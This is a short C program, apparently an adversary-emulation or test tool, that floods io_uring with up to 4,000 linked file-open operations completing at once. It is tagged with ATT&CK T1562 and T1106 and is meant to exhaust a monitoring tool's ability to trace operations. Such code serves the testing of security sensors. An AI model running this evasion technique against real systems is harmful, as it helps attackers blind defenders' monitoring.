// SPDX-License-Identifier: Apache-2.0
// ring-crowd PROCS FILE COUNT: opens FILE in a crowd of COUNT (at most 4,000) operations of io_uring that wait for each
// other at the same time, so that who follows operations to their end runs out of room (T1562, T1106).
#include <linux/openat2.h>
#include <poll.h>

#include "ring.h"

#define MOST 4000

int main(int argc, char **argv)
{
	struct io_uring_sqe head = {.opcode = IORING_OP_POLL_ADD, .poll32_events = POLLIN, .flags = IOSQE_IO_LINK};
	struct io_uring_sqe open = {
		.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (unsigned long)argv[2], .flags = IOSQE_IO_LINK};
	int count = atoi(argv[3]), ends[2];
	struct ring ring;

	if (count > MOST || pipe(ends))
		return 98;
	join_cgroup(argv[1]);
	open_ring_of(&ring, 4096);
	head.fd = ends[0];
	add(&ring, &head);
	for (int i = 0; i < count; i++) {
		if (i == count - 1)
			open.flags = 0;
		add(&ring, &open);
	}
	if (syscall(SYS_io_uring_enter, ring.fd, count + 1, 0, 0, NULL, 0) != count + 1)
		fail("io_uring_enter");
	if (write(ends[1], "x", 1) != 1)
		fail("write");
	if (syscall(SYS_io_uring_enter, ring.fd, 0, count + 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		fail("wait");
	return 0;
}
